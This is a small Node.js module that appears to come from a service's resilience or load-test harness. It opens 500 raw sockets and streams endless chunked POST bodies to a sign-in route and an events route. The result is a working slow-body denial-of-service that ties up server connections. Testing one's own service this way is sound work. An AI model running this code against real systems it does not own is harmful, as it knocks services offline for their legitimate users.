import { connect } from 'node:net'

const SENDERS = 500
const PAUSE_MS = 250
/** Each body grows by this much per second: an upload that never ends. */
const CHUNK = ' '.repeat(4_096)

/** Slow bodies from unauthenticated clients: to sign-in, and to the route that accepts the largest body. */
export function slowSenders({ url, domainId }) {
  const { hostname, port } = new URL(url)
  const paths = ['/v1/auth', `/v1/domain/${domainId}/events`]
  const sockets = Array.from({ length: SENDERS }, (_, index) => {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.resume()
    socket.write(
      `POST ${paths[index % paths.length]} HTTP/1.1\r\nhost: bench\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
    )
    return socket
  })
  const sending = setInterval(() => {
    for (const socket of sockets) {
      if (socket.writable) socket.write(`${CHUNK.length.toString(16)}\r\n${CHUNK}\r\n`)
    }
  }, PAUSE_MS)
  return () => {
    clearInterval(sending)
    const open = sockets.filter(({ writable }) => writable).length
    for (const socket of sockets) socket.destroy()
    // In the same form as the other attacks' counts by status.
    return { open, closed: SENDERS - open }
  }
}
